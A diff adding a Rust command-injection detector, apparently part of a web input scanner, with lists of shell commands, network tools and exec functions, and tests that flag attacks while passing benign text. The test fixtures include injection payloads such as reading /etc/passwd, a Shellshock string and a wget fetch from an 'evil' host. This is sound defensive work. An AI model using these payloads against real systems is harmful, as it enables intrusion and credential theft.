@@ -1,0 +1,347 @@
+//! OS command injection: a value that ends the command it is spliced into
+//! and starts another, or substitutes one.
+//!
+//! What is looked for, on the decoded value:
+//! - a shell separator (`;`, `|`, `||`, `&`, `&&`, a newline) or a
+//!   substitution (`` `...` ``, `$(...)`) followed by a command. Commands
+//!   whose names are also words (`cat`, `type`, `sleep`, `ping`) count only
+//!   with arguments that look like a command line's (a flag, a path, a
+//!   number, a URL), so `dogs; cat lovers` is text;
+//! - the Shellshock function prefix `() {`, `${IFS}` and similar shell-only
+//!   tokens, and well-known shells by path (`/bin/sh`);
+//! - calls of functions that run commands in the interpreters behind web
+//!   applications (`system('...')`, `shell_exec(`, `Runtime.getRuntime().exec(`);
+//! - at level 2, a value that is a command line of its own (`ls -la /tmp`);
+//!   at level 3, redirections (`> /tmp/x`, `2>&1`).
+
+use super::xss::find;
+use super::{Category, Hit, Severity};
+
+const CRIT: Severity = Severity::Critical;
+
+/// Commands no text runs into: their name alone after a separator is enough.
+const STRONG: &[&str] = &[
+    "id",
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "nslookup",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "dash",
+    "tcsh",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "cmd.exe",
+    "perl",
+    "python",
+    "python3",
+    "ruby",
+    "php",
+    "telnet",
+    "systeminfo",
+    "hostname",
+    "chmod",
+    "chown",
+    "mkfifo",
+    "base64",
+    "xterm",
+    "tasklist",
+    "taskkill",
+    "certutil",
+    "bitsadmin",
+    "reg",
+    "net",
+    "wmic",
+    "rundll32",
+    "regsvr32",
+    "mshta",
+    "cscript",
+    "wscript",
+    "passwd",
+    "useradd",
+    "crontab",
+    "busybox",
+    "socat",
+    "tftp",
+    "ftp",
+    "scp",
+    "ssh",
+    "dig",
+    "traceroute",
+    "tracert",
+    "pwd",
+    "env",
+    "printenv",
+    "uptime",
+    "lsb_release",
+    "getent",
+    "awk",
+    "sed",
+    "xargs",
+    "nohup",
+    "setsid",
+    "sudo",
+    "su",
+    "rm",
+    "mv",
+    "cp",
+    "touch",
+    "tar",
+    "gcc",
+    "ls",
+    "dir",
+    "ver",
+    "vol",
+    "arp",
+    "route",
+    "ps",
+    "kill",
+    "killall",
+    "pkill",
+    "shutdown",
+    "reboot",
+    "exec",
+    "eval",
+];
+
+/// Commands that are also ordinary words: they need command-line arguments.
+const WEAK: &[&str] = &[
+    "cat", "type", "echo", "sleep", "ping", "find", "more", "less", "head", "tail", "sort", "set",
+    "print", "who", "w", "last", "time", "timeout", "wait", "expr", "test", "start", "call",
+    "copy", "del", "move", "read", "which", "whereis", "locate", "file", "grep", "nmap", "md",
+    "mkdir", "rmdir", "uniq", "cut", "date", "finger",
+];
+
+/// Functions of PHP, Python, Perl, Ruby, Java and Node that run commands.
+const EXEC_CALLS: &[&str] = &[
+    "system(",
+    "exec(",
+    "shell_exec(",
+    "passthru(",
+    "popen(",
+    "proc_open(",
+    "pcntl_exec(",
+    "os.system(",
+    "os.popen(",
+    "subprocess.",
+    "runtime.getruntime(",
+    "child_process",
+    "execsync(",
+    "spawnsync(",
+    "processbuilder(",
+    "__import__(",
+    "${@",
+    "assert(",
+];
+
+/// Tokens only a shell command line has.
+const SHELL_TOKENS: &[&str] = &[
+    "${ifs}",
+    "$ifs$",
+    "$ifs",
+    "() {",
+    "(){",
+    "/bin/sh",
+    "/bin/bash",
+    "/bin/zsh",
+    "/bin/dash",
+    "/bin/busybox",
+    "/usr/bin/id",
+    "/bin/nc",
+    "/bin/cat",
+    "/usr/bin/wget",
+    "/usr/bin/curl",
+    "%comspec%",
+    "cmd /c",
+    "cmd.exe",
+    "powershell -",
+    "|| ping",
+    "&& ping",
+];
+
+/// Looks for command injection in `text`. Returns the bytes processed.
+pub(crate) fn detect(text: &str, level: u8, hits: &mut Vec<Hit>) -> u64 {
+    let raw = text.as_bytes();
+    let lower: Vec<u8> = raw.iter().map(u8::to_ascii_lowercase).collect();
+    let s = &lower[..];
+    let mut add = |rule: &'static str, span: (usize, usize)| {
+        if !hits.iter().any(|h| h.rule == rule) {
+            hits.push(Hit::new(Category::Cmdi, rule, CRIT, span));
+        }
+    };
+    let shellish = s.iter().any(|&b| {
+        matches!(
+            b,
+            b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'(' | b'%' | b'/'
+        )
+    });
+    if shellish {
+        // Separators and substitutions, then a command.
+        for (i, &b) in s.iter().enumerate() {
+            let start = match b {
+                b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' => i + 1,
+                b'$' if s.get(i + 1) == Some(&b'(') => i + 2,
+                _ => continue,
+            };
+            if let Some(end) = command_at(s, start) {
+                add("cmdi.command-after-separator", (i, s.len().min(end + 30)));
+                break;
+            }
+        }
+        for token in SHELL_TOKENS {
+            if let Some(p) = find(s, token.as_bytes()) {
+                add("cmdi.shell-syntax", (p, s.len().min(p + 40)));
+                break;
+            }
+        }
+        for call in EXEC_CALLS {
+            if let Some(p) = find(s, call.as_bytes()) {
+                let whole = p == 0 || !(s[p - 1].is_ascii_alphanumeric() || s[p - 1] == b'_');
+                if whole {
+                    add("cmdi.exec-call", (p, s.len().min(p + 40)));
+                    break;
+                }
+            }
+        }
+    }
+    if level >= 2 && command_at(s, 0).is_some() {
+        add("cmdi.command-line", (0, s.len().min(60)));
+    }
+    if level >= 3 {
+        for redirect in [
+            &b"2>&1"[..],
+            b">/dev/null",
+            b"> /dev/null",
+            b">/tmp/",
+            b"> /tmp/",
+            b"</etc/",
+        ] {
+            if let Some(p) = find(s, redirect) {
+                add("cmdi.redirection", (p, s.len().min(p + 30)));
+                break;
+            }
+        }
+    }
+    2 * raw.len() as u64
+}
+
+/// If a command starts at `start` (after spaces, an optional path such as
+/// `/usr/bin/`, and quotes), the end of its name.
+fn command_at(s: &[u8], start: usize) -> Option<usize> {
+    let mut i = start;
+    while i < s.len() && matches!(s[i], b' ' | b'\t' | b'\'' | b'"' | b'(' | b'{' | b'@') {
+        i += 1;
+    }
+    // `/bin/cat`, `c:\windows\system32\cmd.exe`: take the last path segment.
+    let word_start = i;
+    while i < s.len()
+        && (s[i].is_ascii_alphanumeric()
+            || matches!(s[i], b'/' | b'\\' | b'.' | b'_' | b'-' | b':'))
+    {
+        i += 1;
+    }
+    let word = &s[word_start..i];
+    let name = word
+        .rsplit(|&b| b == b'/' || b == b'\\')
+        .next()
+        .unwrap_or(word);
+    if name.is_empty() {
+        return None;
+    }
+    let name = std::str::from_utf8(name).ok()?;
+    let rest = &s[i..];
+    let arg_end = rest
+        .iter()
+        .position(|&b| matches!(b, b';' | b'|' | b'&' | b'\n' | b'`' | b')'))
+        .unwrap_or(rest.len());
+    let args = &rest[..arg_end];
+    let ends_cleanly = args.iter().all(|b| b.is_ascii_whitespace());
+    if STRONG.contains(&name) {
+        // `id` and `sh` are short: the name has to end there.
+        return (ends_cleanly || rest.first().is_some_and(|b| matches!(b, b' ' | b'\t')))
+            .then_some(i);
+    }
+    if WEAK.contains(&name) && command_like_args(args) {
+        return Some(i);
+    }
+    None
+}
+
+/// Arguments that look like a command line's: a flag, a path, a number, a URL.
+fn command_like_args(args: &[u8]) -> bool {
+    let mut words = args
+        .split(|b| b.is_ascii_whitespace())
+        .filter(|w| !w.is_empty())
+        .peekable();
+    if words.peek().is_none() {
+        return false;
+    }
+    words.any(|w| {
+        w.starts_with(b"-")
+            || w.starts_with(b"/")
+            || w.starts_with(b"~")
+            || w.starts_with(b"./")
+            || w.starts_with(b"$")
+            || (w.len() > 2 && w[1] == b':' && matches!(w[2], b'\\' | b'/'))
+            || w.iter().all(u8::is_ascii_digit)
+            || find(w, b"://").is_some()
+            || w.contains(&b'>')
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(text: &str, level: u8) -> Vec<&'static str> {
+        let mut hits = Vec::new();
+        detect(text, level, &mut hits);
+        hits.into_iter().map(|h| h.rule).collect()
+    }
+
+    #[test]
+    fn finds_separators_substitutions_and_exec_calls() {
+        for attack in [
+            "; id",
+            "| whoami",
+            "1 && cat /etc/passwd",
+            "`uname -a`",
+            "$(sleep 5)",
+            "x\nwget http://evil/x.sh",
+            "() { :;}; /bin/bash -c id",
+            "system('ls -la');",
+            "cat${IFS}/etc/passwd",
+            "& ping -n 5 127.0.0.1 &",
+        ] {
+            assert!(!rules(attack, 1).is_empty(), "{attack}");
+        }
+        assert!(rules("ls -la /tmp", 2).contains(&"cmdi.command-line"));
+    }
+
+    #[test]
+    fn leaves_text_with_separators_alone() {
+        for text in [
+            "dogs; cat lovers welcome",
+            "Tom & Jerry",
+            "AT&T",
+            "salt | pepper",
+            "Rock & roll; sleep well",
+            "price: $(5 off)",
+            "a;b;c",
+        ] {
+            assert_eq!(rules(text, 1), Vec::<&str>::new(), "{text}");
+        }
+    }
+}
